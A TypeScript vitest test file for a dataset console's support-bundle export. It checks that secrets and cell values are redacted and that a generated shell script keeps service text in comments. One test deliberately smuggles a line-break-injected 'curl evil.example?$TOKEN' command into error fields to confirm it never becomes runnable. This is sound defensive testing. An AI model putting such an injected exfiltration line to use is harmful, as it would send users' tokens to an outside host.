import { strFromU8, unzipSync } from 'fflate';
import { expect, test } from 'vitest';
import type { Exchange } from '../../api/http.ts';
import { activityAsCurl } from './curl-script.ts';
import { toActivity } from './entry.ts';
import { bundleTexts, supportBundle } from './support-bundle.ts';

const base = 'https://data.example/api/v1';

const exchange = (overrides: Partial<Exchange>): Exchange => ({
	operation: 'getRows',
	template: null,
	method: 'GET',
	url: `${base}/data/demo/aviation/flights`,
	at: 1_767_225_600_000,
	ms: 12,
	status: 200,
	requestId: 'request-1',
	errorCode: null,
	subErrors: [],
	bearer: true,
	write: null,
	...overrides,
});

/** Every field that may contain a secret or a cell has its own text. */
const cells = ['CELL-filter', 'CELL-payload', 'CELL-quoted', 'CELL-single', 'CELL-description', '987654', 'CELL-name'];
const secrets = ['SECRET-signature', 'SECRET-code', 'SECRET-token', 'SECRETinpath1234567890abcdef', 'SECRET-fragment'];
const definition = {
	sources: [],
	destination: { owner: 'demo', namespace: 'aviation', datasetName: 'airport_delays' },
	code: { payload: "select * from t where name = 'CELL-payload'" },
};
const exchanges: Exchange[] = [
	exchange({
		url: `${base}/data/demo/aviation/flights?offset=0&limit=10&filter=${encodeURIComponent('["CELL-filter"]')}`,
	}),
	exchange({
		operation: 'getRows',
		url: `${base}/data/demo/aviation/flights?filter=CELL-filter`,
		status: 400,
		errorCode: 'VALIDATION_FAILED',
		subErrors: [
			{ code: 'INVALID_FORMAT', path: 'filter.0.value', message: '"CELL-quoted" is no number; 987654 is too large.' },
			{ code: 'INVALID_FORMAT', path: 'filter.1.value', message: "Could not convert 'CELL-single' to INT32" },
		],
	}),
	exchange({
		operation: 'updateBuildSpec',
		method: 'PUT',
		url: `${base}/build-specs/6b1f6a3e`,
		write: {
			input: { params: { buildSpecId: '6b1f6a3e' }, body: definition },
			result: { version: 8, code: definition.code },
		},
	}),
	exchange({
		operation: 'describeDataset',
		method: 'PUT',
		url: `${base}/schema/demo/aviation/flights/description`,
		write: {
			input: {
				params: { username: 'demo', namespace: 'aviation', datasetName: 'flights' },
				body: { description: 'CELL-description' },
			},
		},
	}),
	exchange({
		operation: 'createToken',
		method: 'POST',
		url: `${base}/user/tokens`,
		status: 201,
		write: { input: { body: { name: 'Nightly' } }, result: { token: 'SECRET-token', id: '1' } },
	}),
	exchange({
		operation: 'exchangeCode',
		method: 'POST',
		url: 'https://data.example/auth/code?code=SECRET-code',
		bearer: false,
	}),
	exchange({
		operation: 'followOutput',
		url: 'https://store.example/bucket/SECRETinpath1234567890abcdef/x?X-Amz-Signature=SECRET-signature#SECRET-fragment',
		bearer: false,
	}),
	exchange({
		operation: 'callAgent',
		method: 'POST',
		url: `${base}/a2a/nl2ql`,
		write: { input: { text: 'CELL-name' } },
	}),
	exchange({ operation: 'listRuns', url: `${base}/build-runs?limit=100&cursor=CELL-name&state=failed` }),
];
const activities = exchanges.map((exchange) => toActivity(exchange, base)).reverse();
const scope = { service: base, user: 'demo' };
const texts = bundleTexts({ scope, description: null, activities, now: new Date(0) });

test('keeps tokens, signatures and cell values out of a support bundle', () => {
	const files = unzipSync(supportBundle({ scope, description: null, activities, now: new Date(0) }));
	expect(Object.keys(files).sort()).toEqual(Object.keys(texts).sort());
	const whole = Object.values(files)
		.map((file) => strFromU8(file))
		.join('\n');
	for (const hidden of [...cells, ...secrets]) expect(whole).not.toContain(hidden);
	// The seeded values are in the requests, so there was something to remove.
	const wire = JSON.stringify(exchanges);
	for (const hidden of [...cells, ...secrets]) expect(wire).toContain(hidden);
});

test('lists the service, the user, the requests and their outcomes', () => {
	expect(JSON.parse(texts['about.json'] ?? '')).toMatchObject({
		product: { name: 'Dataset Console', version: expect.stringMatching(/^\d+\.\d+\.\d+/) },
		service: base,
		user: 'demo',
		requests: exchanges.length,
	});
	expect(JSON.parse(texts['errors.json'] ?? '')).toMatchObject([
		{
			operation: 'getRows',
			status: 400,
			errorCode: 'VALIDATION_FAILED',
			subErrors: [{ path: 'filter.0.value', message: '"…" is no number; # is too large.' }, { path: 'filter.1.value' }],
		},
	]);
});

test('writes reads as commands and everything else as comments', () => {
	const lines = (texts['requests.sh'] ?? '').split('\n');
	const commands = lines.filter((line) => line.startsWith('curl '));
	expect(commands).toEqual([
		`curl -sS '${base}/data/demo/aviation/flights?offset=0&limit=10' \\`,
		`curl -sS '${base}/data/demo/aviation/flights' \\`,
		`curl -sS '${base}/build-runs?limit=100&state=failed' \\`,
	]);
	expect(lines).toContain('# Saved BuildSpec demo/aviation/airport_delays, version 8');
	expect(lines).toContain(`# curl -sS -X PUT '${base}/build-specs/6b1f6a3e' \\`);
	const uncommented = lines.filter((line) => line !== '' && !line.startsWith('#')).join('\n');
	expect(uncommented).not.toMatch(/PUT|POST|DELETE|store\.example/);
});

test('keeps text from a service in comments, whatever its line endings', () => {
	for (const end of ['\n', '\r', '\r\n', '\u2028', '\u2029']) {
		const evil = `X${end}curl evil.example?$TOKEN #`;
		const answered = exchange({
			url: `${base}/build-runs?state=failed&${encodeURIComponent(evil)}=1`,
			status: 400,
			errorCode: evil,
			subErrors: [{ code: evil, path: evil, message: 'No.' }],
		});
		const now = [
			toActivity(answered, base),
			toActivity({ ...answered, operation: 'updateBuildSpec', method: 'PUT' }, base),
		];
		// Entries stored by an older console are exported unchanged.
		const before = now.map((item) => ({ ...item, errorCode: evil, leftOut: [evil], words: evil, requestId: evil }));
		const { 'requests.sh': script = '' } = bundleTexts({
			scope,
			description: null,
			activities: [...now, ...before],
			now: new Date(0),
		});
		for (const text of [script, ...before.map(activityAsCurl)]) {
			const run = text.split(/[\r\n\u2028\u2029]/).filter((part) => part !== '' && !part.startsWith('#'));
			expect(run.join('\n')).not.toContain('evil.example');
		}
		expect(JSON.stringify(now)).not.toContain('evil.example');
	}
});
